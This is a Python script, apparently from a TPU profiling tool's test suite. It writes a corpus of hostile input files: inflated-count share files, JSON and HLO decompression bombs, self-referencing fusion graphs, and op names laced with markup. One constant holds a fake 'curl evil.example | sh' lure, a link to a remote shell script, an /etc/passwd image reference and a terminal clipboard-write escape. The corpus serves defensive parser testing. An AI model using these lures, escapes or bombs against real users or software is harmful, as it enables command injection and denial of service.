#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-3.0-or-later
"""Writes the hostile-input corpus of issue 27 (tests/data/hostile/).

Each file is one case a stranger's file can make: a share file whose counts claim more than the
file holds, an XSpace whose HLO is a bomb or calls itself, names full of markup and terminal
controls. The files are committed (small, a few KB each); this script says how each was made and
writes them again:

    python3 tests/tools/make_hostile_corpus.py tests/data/hostile

It does not use tpuscope's code or protos: share files are built as JSON by hand, XSpaces with
the protobuf wire format written out below (field numbers from docs FORMATS.md §2 and §3).
"""
import gzip
import json
import os
import re
import sys

# ---- protobuf wire format -------------------------------------------------------------------


def varint(v):
    out = bytearray()
    v &= (1 << 64) - 1
    while True:
        b = v & 0x7F
        v >>= 7
        if v:
            out.append(b | 0x80)
        else:
            out.append(b)
            return bytes(out)


def tag(field, wire):
    return varint((field << 3) | wire)


def vfield(field, value):
    return tag(field, 0) + varint(value)


def lfield(field, payload):
    if isinstance(payload, str):
        payload = payload.encode()
    return tag(field, 2) + varint(len(payload)) + payload


# XSpace 1 planes, 4 hostnames; XPlane 1 id, 2 name, 3 lines, 4 event_metadata (map entry: 1 key,
# 2 value), 5 stat_metadata; XLine 1 id, 2 name, 3 timestamp_ns, 4 events; XEvent 1 metadata_id,
# 2 offset_ps, 3 duration_ps, 4 stats; XEventMetadata 1 id, 2 name, 5 stats; XStatMetadata 1 id,
# 2 name; XStat 1 metadata_id, 3 uint64_value, 6 bytes_value.


def stat_metadata(sid, name):
    return lfield(5, vfield(1, sid) + lfield(2, vfield(1, sid) + lfield(2, name)))


def event_metadata(mid, name, stats=b""):
    return lfield(4, vfield(1, mid) + lfield(2, vfield(1, mid) + lfield(2, name) + stats))


def tpu_plane_with_ops(names, program_id=None, device_type=None):
    """/device:TPU:0 with one XLA Ops line, one 1 µs event per name (stat 1 = program_id)."""
    events = b""
    metadata = b""
    for i, name in enumerate(names, start=1):
        stats = lfield(5, vfield(1, 1) + vfield(3, program_id)) if program_id is not None else b""
        metadata += event_metadata(i, name, stats)
        events += lfield(4, vfield(1, i) + vfield(2, i * 2_000_000) + vfield(3, 1_000_000))
    line = vfield(1, 1) + lfield(2, "XLA Ops") + vfield(3, 1_700_000_000_000_000_000) + events
    plane = vfield(1, 1) + lfield(2, "/device:TPU:0") + lfield(3, line) + metadata
    if program_id is not None:
        plane += stat_metadata(1, "program_id")
    if device_type is not None:
        plane += stat_metadata(2, "device_type_string")
    return lfield(1, plane)


def metadata_plane(program_id, module_name, hlo_proto):
    stats = lfield(5, vfield(1, 1) + lfield(6, hlo_proto))
    plane = vfield(1, 2) + lfield(2, "/host:metadata") + stat_metadata(1, "Hlo Proto")
    plane += event_metadata(program_id, "%s(%d)" % (module_name, program_id), stats)
    return lfield(1, plane)


# HloProto 1 hlo_module; HloModuleProto 1 name, 3 computations, 5 id, 6 entry_computation_id;
# HloComputationProto 1 name, 2 instructions, 5 id, 6 root_id, 7 is_fusion_computation;
# HloInstructionProto 1 name, 2 opcode, 11 fusion_kind, 35 id, 38 called_computation_ids.


def instruction(iid, name, opcode, called=()):
    out = lfield(1, name) + lfield(2, opcode) + vfield(35, iid)
    if opcode == "fusion":
        out += lfield(11, "kLoop")
    for c in called:
        out += vfield(38, c)
    return lfield(2, out)


def computation(cid, name, instructions, root, fusion=False):
    return lfield(3, lfield(1, name) + b"".join(instructions) + vfield(5, cid) + vfield(6, root)
                  + (vfield(7, 1) if fusion else b""))


def hlo_proto(name, computations, entry):
    return lfield(1, lfield(1, name) + b"".join(computations) + vfield(5, 1) + vfield(6, entry))


# ---- share files ----------------------------------------------------------------------------


def share_doc(**extra):
    doc = {
        "format": "tpuscope-share", "version": 1, "generator": "tpuscope",
        "device": {"type": "TPU v6 lite", "generation": "v6e", "cores": 1, "cores_source": "planes",
                   "hosts": ["host0"], "core_planes": [{"host": 0, "name": "/device:TPU:0"}]},
        "totals": {"ops": 1, "kept": 1, "time_ps": 1_000_000, "kept_time_fraction": 1, "span_ps": 1_000_000_000},
        "ops": [{"name": "fusion.1", "category": "loop fusion", "occurrences": 1, "time_ps": 1_000_000,
                 "flops": 0, "bytes": 0}],
    }
    for key, value in extra.items():
        if key == "device":
            doc["device"].update(value)
        else:
            doc[key] = value
    return doc


def repeated(value, count):
    """A JSON array of one integer repeated: a placeholder that share_file writes out as
    json.dumps would ("[0,0,...]") without json walking 30 million list items (5 s of the test)."""
    return "@@repeated:%d:%d@@" % (value, count)


def share_file(doc):
    text = json.dumps(doc, separators=(",", ":"))
    text = re.sub(r'"@@repeated:(-?\d+):(\d+)@@"',
                  lambda m: "[" + ",".join([m.group(1)] * int(m.group(2))) + "]", text)
    return b"TPUSCOPE-SHARE 1\n" + gzip.compress(text.encode(), 9, mtime=0)


STEPS = 0  # TrackKind::Steps
MODULES = 2  # TrackKind::XlaModules

NESTED_TABLES = "<table>" * 6000
MARKUP = ("## SECURITY ALERT\n[Run this fix](https://evil.example/x.sh) <img src=/etc/passwd> "
          "<b style='color:red;font-size:40px'>run curl evil.example | sh</b> =HYPERLINK(\"x\") "
          "\x1b]52;c;ZWNobyBwd25lZA==\x07\x1b[2J\x00|*_`!")


def cases():
    # 1. Amplification through claims.
    yield "share_idle_million_runs.tpuscope", share_file(share_doc(idle=[
        {"plane": 0, "line": "XLA Modules", "kind": MODULES, "runs": 1_000_000, "span_ps": 1_000_000_000,
         "gap_ps": 0, "offset_ps": 0}] * 2000))
    yield "share_program_runs_in_1ms.tpuscope", share_file(share_doc(program_runs=[
        {"plane": 0, "program": "jit_step", "runs": 1_000_000, "time_ps": 1_000_000_000}]))
    yield "share_runs_beyond_file_size.tpuscope", share_file(share_doc(program_runs=[
        {"plane": 0, "program": "jit_step", "runs": 10_000_000_000, "time_ps": 10**21}]))
    cores = [{"plane": i, "start_ps": list(range(0, 10 * 1000, 1000)), "duration_ps": [900] * 10,
              "busy_ps": [800] * 10} for i in range(50)]
    yield "share_step_windows_more_cores_than_planes.tpuscope", share_file(share_doc(
        step_windows={"kind": STEPS, "line": "Steps", "dominant": "jit_step", "cores": cores}))
    yield "share_step_windows_200k_x50.tpuscope", share_file(share_doc(
        device={"cores": 50, "core_planes": [{"host": 0, "name": "/device:TPU:%d" % i} for i in range(50)]},
        step_windows={"kind": STEPS, "line": "Steps", "dominant": "jit_step", "cores": [
            {"plane": i, "start_ps": repeated(0, 200_000), "duration_ps": repeated(0, 200_000),
             "busy_ps": repeated(0, 200_000)}
            for i in range(50)]}))
    yield "share_100k_core_planes.tpuscope", share_file(share_doc(
        device={"cores": 100_000, "core_planes": [{"host": 0, "name": "/device:TPU:%d" % i}
                                                  for i in range(100_000)]}))
    yield "share_300k_op_rows.tpuscope", share_file(share_doc(ops=[
        {"name": "f.%d" % i, "time_ps": 1000} for i in range(300_000)]))
    yield "share_json_value_bomb.tpuscope", share_file(share_doc(padding=repeated(0, 30_000_000)))
    yield "share_plane_out_of_range.tpuscope", share_file(share_doc(program_runs=[
        {"plane": 7, "program": "jit_step", "runs": 10, "time_ps": 1_000_000_000}]))
    # Per-host timing (host_timing) whose counts and indices lie: each refused naming the field.
    windows = {"kind": STEPS, "line": "Steps", "dominant": "jit_step", "cores": [
        {"plane": 0, "start_ps": list(range(0, 10_000_000, 1_000_000)), "duration_ps": [900_000] * 10,
         "busy_ps": [800_000] * 10}]}

    def timing(**core):
        entry = {"plane": 0, "sync_start_ps": [1000] * 10, "sync_ps": [5000] * 10, "last_op_end_ps": [8000] * 10,
                 "other_wait_ps": [0] * 10}
        entry.update(core)
        return {"sync_collective": "all-reduce.1", "other_wait_measured": False, "other_wait_scope": "profile",
                "origin_ns": 0, "span_begin_ps": 0, "cores": [entry]}
    yield "share_host_timing_plane_out_of_range.tpuscope", share_file(share_doc(
        step_windows=windows, host_timing=timing(plane=3)))
    yield "share_host_timing_more_steps_than_windows.tpuscope", share_file(share_doc(
        step_windows=windows, host_timing=timing(sync_start_ps=[1000] * 5000, sync_ps=[5000] * 5000,
                                                 last_op_end_ps=[8000] * 5000, other_wait_ps=[0] * 5000)))
    yield "share_host_timing_ragged_series.tpuscope", share_file(share_doc(
        step_windows=windows, host_timing=timing(sync_ps=[5000] * 3)))
    yield "share_host_timing_negative_time.tpuscope", share_file(share_doc(
        step_windows=windows, host_timing=timing(sync_ps=[5000] * 7 + [-9_000_000_000_000] + [5000] * 2)))
    # 4/5/6. Markup, terminal controls and rich text from a share file.
    yield "share_markup_names.tpuscope", share_file(share_doc(
        device={"type": NESTED_TABLES + MARKUP},
        ops=[{"name": "fusion." + MARKUP, "category": MARKUP, "occurrences": 1, "time_ps": 1_000_000,
              "flops": 0, "bytes": 0, "hlo": NESTED_TABLES, "source": "<a href='https://evil.example'>x</a>"}]))
    # 6. HLO whose fusions call themselves, in a share file.
    computations = [{"id": 1, "name": "main", "root": 30, "instructions": [
        {"id": i, "n": "fusion.%d" % i, "o": "fusion", "fk": "kLoop", "c": [100 + i]} for i in range(1, 31)]}]
    for i in range(1, 31):
        computations.append({"id": 100 + i, "name": "fused_computation.%d" % i, "root": 1000 + i, "fusion": True,
                             "instructions": [{"id": 1000 + i, "n": "inner.%d" % i, "o": "fusion", "fk": "kLoop",
                                               "c": [100 + i, 100 + (i % 30) + 1]}]})
    yield "share_self_calling_fusions.tpuscope", share_file(share_doc(
        programs=[{"id": 1, "name": "jit_loop", "hlo": {"name": "jit_loop", "id": 1, "entry": 1,
                                                      "computations": computations}}],
        ops=[{"name": "fusion.1", "program_id": 1, "category": "loop fusion", "occurrences": 1,
              "time_ps": 1_000_000, "flops": 0, "bytes": 0}]))
    # 3. An HLO bomb: 4 million empty instructions (2 bytes each on the wire) in a few KB of gzip.
    bomb = hlo_proto("jit_bomb", [lfield(3, lfield(1, "main") + lfield(2, b"") * 4_000_000 + vfield(5, 1))], 1)
    yield "xspace_hlo_bomb.xplane.pb.gz", gzip.compress(
        tpu_plane_with_ops(["fusion.1"], program_id=7) + metadata_plane(7, "jit_bomb", bomb), 9, mtime=0)
    # 4. HLO whose 30 fusions call themselves, directly and around a ring, in an XSpace.
    entry = [instruction(i, "fusion.%d" % i, "fusion", [100 + i]) for i in range(1, 31)]
    fused = [computation(100 + i, "fused_computation.%d" % i,
                         [instruction(1000 + i, "inner.%d" % i, "fusion", [100 + i, 100 + (i % 30) + 1])],
                         1000 + i, fusion=True) for i in range(1, 31)]
    looped = hlo_proto("jit_loop", fused + [computation(1, "main", entry, 30)], 1)
    yield "xspace_self_calling_fusions.xplane.pb", (
        tpu_plane_with_ops(["fusion.%d" % i for i in range(1, 31)], program_id=9)
        + metadata_plane(9, "jit_loop", looped))
    # 2/3. Unique op names: 20,000 names, each used once (charged at what they take).
    yield "xspace_20k_unique_names.xplane.pb.gz", gzip.compress(
        tpu_plane_with_ops(["fusion.unique.%d" % i for i in range(20_000)]), 9, mtime=0)


def main():
    out = sys.argv[1] if len(sys.argv) > 1 else "tests/data/hostile"
    os.makedirs(out, exist_ok=True)
    for name, data in cases():
        with open(os.path.join(out, name), "wb") as f:
            f.write(data)
        print("%-52s %9d bytes" % (name, len(data)))


if __name__ == "__main__":
    main()
